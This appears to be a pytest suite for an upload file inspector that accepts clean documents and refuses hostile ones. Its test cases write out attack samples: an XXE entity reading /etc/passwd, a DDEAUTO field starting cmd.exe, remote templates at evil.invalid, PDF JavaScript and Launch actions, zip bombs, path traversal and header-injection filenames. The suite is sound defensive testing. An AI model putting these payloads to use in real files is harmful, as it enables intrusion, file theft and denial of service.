"""Clean files are taken; hostile, mislabelled and damaged ones are refused with a reason."""

from __future__ import annotations

import struct
import zipfile

import pytest

from core.files import RefusedFile, inspect_file, safe_name
from tests.support.documents import (
    BOOK_MAIN,
    DOC_MAIN,
    a_docx,
    a_jpeg,
    a_mail,
    a_pdf,
    a_png,
    a_stream,
    a_zip,
    an_xlsx,
    docx_parts,
    external,
    xlsx_parts,
)

FIELD = '<w:p><w:r><w:instrText xml:space="preserve"> {} </w:instrText></w:r></w:p>'
CHART = "word/embeddings/Microsoft_Excel_Sheet1.xlsx"


@pytest.mark.parametrize(
    ("name", "data", "media_type"),
    [
        pytest.param("a.pdf", a_pdf(), "application/pdf", id="pdf"),
        pytest.param("A.PDF", a_pdf(version=b"2.0"), "application/pdf", id="pdf 2.0, upper case"),
        pytest.param(
            "a.pdf", a_pdf(a_stream(b"/Type /Page")), "application/pdf", id="pdf with object streams"
        ),
        pytest.param(
            "a.pdf",
            a_pdf(a_stream(b"/JS in a picture", kind=b"XObject")),
            "application/pdf",
            id="pdf, letters in a stream",
        ),
        pytest.param(
            "a.pdf",
            a_pdf(b"9 0 obj\n(see /JS and /Launch)\nendobj\n"),
            "application/pdf",
            id="pdf, words in a text",
        ),
        pytest.param("a.pdf", a_pdf() + b"\r\n", "application/pdf", id="pdf with a line end after its end"),
        pytest.param(
            "a.docx", a_docx("<w:p><w:r><w:t>Notice &amp; terms: DDE</w:t></w:r></w:p>"), None, id="docx"
        ),
        pytest.param(
            "a.docx", a_docx(rels=external("hyperlink", "https://x.invalid/a")), None, id="docx with a link"
        ),
        pytest.param(
            "a.docx", a_docx(FIELD.format('HYPERLINK "https://x.invalid"')), None, id="docx with a link field"
        ),
        pytest.param("a.docx", a_docx(FIELD.format("PAGE")), None, id="docx with a page number"),
        pytest.param("a.docx", a_zip(docx_parts() | {CHART: an_xlsx()}), None, id="docx with a chart"),
        pytest.param("a.docx", a_zip(docx_parts(), method=zipfile.ZIP_STORED), None, id="docx, stored"),
        pytest.param("a.xlsx", an_xlsx(), None, id="xlsx"),
        pytest.param(
            "a.xlsx",
            a_zip(xlsx_parts() | {"xl/printerSettings/printerSettings1.bin": b"x"}),
            None,
            id="xlsx, printer",
        ),
        pytest.param("a.png", a_png(), "image/png", id="png"),
        pytest.param("a.jpg", a_jpeg(), "image/jpeg", id="jpg"),
        pytest.param("a.jpeg", a_jpeg(), "image/jpeg", id="jpeg"),
        pytest.param("a.txt", "Straße".encode(), "text/plain", id="utf-8 text"),
        pytest.param("a.txt", "Straße".encode("cp1252"), "text/plain", id="windows text"),
        pytest.param("a.txt", b"MZ Industries, notice of 3 May", "text/plain", id="text that begins with MZ"),
        pytest.param("a.csv", b"\xef\xbb\xbfa;b\r\n1;2\r\n", "text/csv", id="csv with a byte order mark"),
        pytest.param("a.md", b"# Title\n", "text/markdown", id="markdown"),
        pytest.param("a.eml", a_mail(), "message/rfc822", id="mail"),
        pytest.param(
            "a.eml",
            a_mail(("n.pdf", a_pdf()), ("p.png", a_png())),
            "message/rfc822",
            id="mail with attachments",
        ),
    ],
)
def test_a_clean_file_is_taken(name, data, media_type):
    found = inspect_file(name, data)
    assert found.name == name
    assert media_type in (None, found.media_type)


def encrypted_zip() -> bytes:
    data = bytearray(an_xlsx())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + place] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


def lying_zip() -> bytes:
    """A part whose directory entry says it is smaller than it is."""
    data = bytearray(a_zip(docx_parts("x" * 5_000)))
    at = data.rfind(b"PK\x01\x02")
    struct.pack_into("<I", data, at + 24, 10)
    return bytes(data)


def overlapping_zip() -> bytes:
    """Two directory entries for the same packed bytes, as zip bombs that multiply them have."""
    data = bytearray(a_zip(docx_parts() | {"word/a.xml": "<a/>", "word/b.xml": "<a/>"}))
    entries, at = [], data.find(b"PK\x01\x02")
    while at >= 0:
        entries.append(at)
        at = data.find(b"PK\x01\x02", at + 4)
    struct.pack_into("<I", data, entries[-1] + 42, struct.unpack_from("<I", data, entries[-2] + 42)[0])
    return bytes(data)


def doubled_zip() -> bytes:
    """A second document.xml under the same name: readers differ in which one they show."""
    return a_zip(docx_parts() | {"word/documenT.xml": "<other/>"}).replace(b"documenT", b"document")


XXE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
LAUGHS = '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><a>&b;</a>'
HOSTILE = [
    # names
    ("exe", "a.exe", b"MZ", "not of a kind"),
    ("double extension", "contract.pdf.exe", a_pdf(), "not of a kind"),
    ("no extension", "contract", a_pdf(), "not of a kind"),
    ("only an extension", ".pdf", a_pdf(), "not of a kind"),
    ("html", "a.html", b"<html>", "not of a kind"),
    ("svg", "a.svg", b"<svg/>", "not of a kind"),
    ("macro document", "a.docm", a_docx(), "not of a kind"),
    ("NUL in the name", "a.pdf\x00.exe", a_pdf(), "not of a kind"),
    ("name that reads backwards", "invoice\u202efdp.exe", a_pdf(), "not of a kind"),
    ("empty", "a.pdf", b"", "is empty"),
    # mislabelled
    ("program as pdf", "a.pdf", b"MZ\x90\x00" + b"x" * 99, "first bytes"),
    ("html as pdf", "a.pdf", b"<html><script>1</script></html>", "first bytes"),
    ("pdf as png", "a.png", a_pdf(), "first bytes"),
    ("png as jpeg", "a.jpg", a_png(), "first bytes"),
    ("zip as docx", "a.docx", a_zip({"a.txt": "x"}), "no document"),
    ("workbook as document", "a.docx", an_xlsx(), "no document"),
    ("document as workbook", "a.xlsx", a_docx(), "no workbook"),
    ("pdf as docx", "a.docx", a_pdf(), "first bytes"),
    ("pdf as text", "a.txt", a_pdf(), "it is a PDF"),
    ("html as text", "a.txt", b"\n <!DOCTYPE html><script>1</script>", "HTML"),
    ("script as text", "a.md", b"#!/bin/sh\nrm -rf x", "script"),
    ("php as csv", "a.csv", b"<?php system(1);", "script"),
    ("program as csv", "a.csv", b"\x7fELF\x02", "program"),
    ("binary as text", "a.txt", b"abc\x00def", "binary"),
    ("bell in a text", "a.txt", b"abc\x07def", "binary"),
    ("utf-16 text", "a.txt", "abc".encode("utf-16"), "UTF-16"),
    ("text as mail", "a.eml", b"Dear Sir,\r\n\r\nwe give notice.", "no sender and date"),
    # more than one thing
    ("zip after a pdf", "a.pdf", a_pdf() + a_zip({"a": "b"}), "cut off|follows"),
    ("junk before a pdf", "a.pdf", b"GIF89a" + a_pdf(), "first bytes"),
    ("html after a pdf", "a.pdf", a_pdf() + b"<script>1</script>", "follows"),
    ("zip after a png", "a.png", a_png() + a_zip({"a": "b"}), "follows"),
    ("html after a png", "a.png", a_png() + b"<script>", "follows"),
    ("zip after a jpeg", "a.jpg", a_jpeg() + a_zip({"a": "b"}), "follows"),
    ("jpeg twice", "a.jpg", a_jpeg() + b"<script>\xff\xd9", "follows"),
    ("program before a docx", "a.docx", b"MZ" + a_docx(), "first bytes"),
    ("data after a docx", "a.docx", a_docx() + b"MZ", "follows"),
    ("zip in a text", "a.csv", b"a;b\n" + a_zip({"a": "b"}, method=zipfile.ZIP_STORED), "binary|archive"),
    # pdf that acts
    (
        "pdf with a script",
        "a.pdf",
        a_pdf(b"9 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n"),
        "script",
    ),
    ("pdf with an escaped script", "a.pdf", a_pdf(b"9 0 obj\n<< /S /J#61vaScript >>\nendobj\n"), "script"),
    ("pdf with a packed script", "a.pdf", a_pdf(a_stream(b"<< /S /JavaScript >>")), "script"),
    ("pdf that starts a program", "a.pdf", a_pdf(b"9 0 obj\n<< /S /Launch /F (x) >>\nendobj\n"), "program"),
    ("pdf with a file inside", "a.pdf", a_pdf(b"9 0 obj\n<< /Type /EmbeddedFile >>\nendobj\n"), "attached"),
    ("pdf with a form program", "a.pdf", a_pdf(b"9 0 obj\n<< /XFA [] >>\nendobj\n"), "form"),
    ("encrypted pdf", "a.pdf", a_pdf(trailer=b"/Encrypt 9 0 R "), "encrypted"),
    ("cut-off pdf", "a.pdf", a_pdf()[:-30], "cut off"),
    ("pdf whose table is elsewhere", "a.pdf", a_pdf().replace(b"startxref\n", b"startxref\n1"), "damaged"),
    ("pdf bomb", "a.pdf", a_pdf(a_stream(b"0" * (101 * 1024 * 1024))), "100 MB"),
    # office that acts
    ("macros", "a.docx", a_zip(docx_parts() | {"word/vbaProject.bin": b"x"}), "macros"),
    ("macros in a workbook", "a.xlsx", a_zip(xlsx_parts() | {"xl/vbaProject.bin": b"x"}), "macros"),
    ("old macro sheet", "a.xlsx", a_zip(xlsx_parts() | {"xl/macrosheets/sheet1.xml": "<a/>"}), "macros"),
    ("macro type", "a.docx", a_docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"), "macros"),
    ("template type", "a.docx", a_docx(main=DOC_MAIN.replace("document.main", "template.main")), "template"),
    ("template workbook", "a.xlsx", an_xlsx(main=BOOK_MAIN.replace("sheet", "template")), "template"),
    (
        "external template",
        "a.docx",
        a_docx(rels=external("attachedTemplate", "https://evil.invalid/t.dotm")),
        "elsewhere",
    ),
    ("external picture", "a.docx", a_docx(rels=external("image", "file://evil/x.png")), "elsewhere"),
    ("external object", "a.docx", a_docx(rels=external("oleObject", "https://evil.invalid/x")), "elsewhere"),
    ("external frame", "a.docx", a_docx(rels=external("frame", "https://evil.invalid/x")), "elsewhere"),
    ("link to a program", "a.docx", a_docx(rels=external("hyperlink", "file:///C:/x.exe")), "link"),
    ("link to a script", "a.docx", a_docx(rels=external("hyperlink", "javascript:alert(1)")), "link"),
    (
        "dde field",
        "a.docx",
        a_docx(FIELD.format('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
        "field",
    ),
    (
        "field that fetches text",
        "a.docx",
        a_docx(FIELD.format('INCLUDETEXT "https://evil.invalid/x"')),
        "field",
    ),
    (
        "other workbook",
        "a.xlsx",
        a_zip(xlsx_parts() | {"xl/externalLinks/externalLink1.xml": "<a/>"}),
        "workbooks",
    ),
    ("activex", "a.docx", a_zip(docx_parts() | {"word/activeX/activeX1.xml": "<a/>"}), "macros"),
    ("embedded object", "a.docx", a_zip(docx_parts() | {"word/embeddings/oleObject1.bin": b"x"}), "embedded"),
    ("embedded program", "a.docx", a_zip(docx_parts() | {"word/embeddings/a.exe": b"MZ"}), "embedded"),
    (
        "macros in a chart",
        "a.docx",
        a_zip(docx_parts() | {CHART: a_zip(xlsx_parts() | {"xl/vbaProject.bin": b""})}),
        "macros",
    ),
    ("entities", "a.docx", a_zip(docx_parts() | {"word/document.xml": XXE}), "entities"),
    ("entities that multiply", "a.xlsx", a_zip(xlsx_parts() | {"xl/workbook.xml": LAUGHS}), "entities"),
    ("entities in the types", "a.xlsx", a_zip(xlsx_parts() | {"[Content_Types].xml": XXE}), "entities"),
    (
        "entities in utf-16",
        "a.docx",
        a_zip(docx_parts() | {"word/document.xml": XXE.encode("utf-16")}),
        "UTF-8",
    ),
    ("broken xml", "a.docx", a_zip(docx_parts() | {"word/document.xml": "<a>"}), "damaged"),
    # archives
    (
        "zip bomb",
        "a.docx",
        a_zip(docx_parts() | {"word/media/a.bmp": b"0" * (20 * 1024 * 1024)}),
        "200 times",
    ),
    ("path that climbs", "a.docx", a_zip(docx_parts() | {"../../etc/cron.d/x": "x"}), "leaves its folder"),
    ("absolute path", "a.docx", a_zip(docx_parts() | {"/etc/x": "x"}), "leaves its folder"),
    ("windows path", "a.docx", a_zip(docx_parts() | {"C:\\x": "x"}), "leaves its folder"),
    ("too many parts", "a.xlsx", a_zip(xlsx_parts() | {f"xl/{n}.txt": "" for n in range(5_001)}), "parts"),
    ("odd packing", "a.docx", a_zip(docx_parts(), method=zipfile.ZIP_LZMA), "unusual"),
    ("encrypted workbook", "a.xlsx", encrypted_zip(), "encrypted"),
    ("old encrypted container", "a.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"x" * 99, "encrypted"),
    ("part larger than said", "a.docx", lying_zip(), "damaged|as large"),
    ("parts that overlap", "a.docx", overlapping_zip(), "overlap|damaged"),
    ("part twice", "a.docx", doubled_zip(), "twice"),
    ("damaged archive", "a.docx", a_docx()[:60], "damaged"),
    # pictures
    ("picture bomb", "a.png", a_png(50_000, 50_000), "pixels"),
    ("large jpeg", "a.jpg", a_jpeg(65_000, 65_000), "pixels"),
    ("no size", "a.png", a_png(0, 5), "pixels"),
    ("wrong checksum", "a.png", a_png()[:-1] + b"x", "checksum"),
    ("cut-off png", "a.png", a_png()[:40], "cut off"),
    ("cut-off jpeg", "a.jpg", a_jpeg()[:-2], "cut off"),
    ("jpeg without picture", "a.jpg", b"\xff\xd8\xff\xe0\x00\x04JF\xff\xd9", "damaged|no picture"),
    # mails
    ("program in a mail", "a.eml", a_mail(("a.exe", b"MZ")), "a.exe"),
    (
        "macros in a mail",
        "a.eml",
        a_mail(("a.docx", a_zip(docx_parts() | {"word/vbaProject.bin": b""}))),
        "macros|damaged|binary",
    ),
    (
        "script in a pdf in a mail",
        "a.eml",
        a_mail(("a.pdf", a_pdf(b"9 0 obj\n<< /JS 1 >>\nendobj\n"))),
        "script",
    ),
]


@pytest.mark.parametrize(("name", "data", "words"), [pytest.param(*case[1:], id=case[0]) for case in HOSTILE])
def test_a_hostile_file_is_refused_with_a_reason(name, data, words):
    with pytest.raises(RefusedFile, match=words) as refused:
        inspect_file(name, data)
    assert refused.value.message.startswith("“")
    assert refused.value.message.endswith(".")


def test_a_file_over_the_limit_of_its_kind_is_refused():
    with pytest.raises(RefusedFile, match="at most 1 MB"):
        inspect_file("a.txt", b"x" * (1024 * 1024 + 1), largest=1024 * 1024)


def test_a_kind_takes_only_its_own_types():
    with pytest.raises(RefusedFile, match=r"Taken are \.csv"):
        inspect_file("a.pdf", a_pdf(), extensions=("csv",))


def test_mails_in_mails_have_a_depth():
    mail = a_mail()
    for _ in range(5):
        mail = a_mail(("inner.eml", mail))
    with pytest.raises(RefusedFile):
        inspect_file("a.eml", mail)


@pytest.mark.parametrize(
    ("given", "safe"),
    [
        ("Contract 2026.pdf", "Contract 2026.pdf"),
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\ana\\offer.docx", "offer.docx"),
        ("a\r\nSet-Cookie: x.pdf", "a Set-Cookie_ x.pdf"),
        ("invoice\u202efdp.exe", "invoicefdp.exe"),
        ("<img src=x onerror=1>.png", "_img src=x onerror=1_.png"),
        ('a";x=".pdf', "a__x=_.pdf"),
        ("  ..pdf. ", "pdf"),
        ("con.pdf", "_con.pdf"),
        ("", "file"),
        ("...", "file"),
        ("Vertrag Müller & Söhne.pdf", "Vertrag Müller & Söhne.pdf"),
        ("x" * 300 + ".pdf", "x" * 146 + ".pdf"),
    ],
)
def test_a_name_is_made_safe_and_stays_so(given, safe):
    assert safe_name(given) == safe
    assert safe_name(safe) == safe
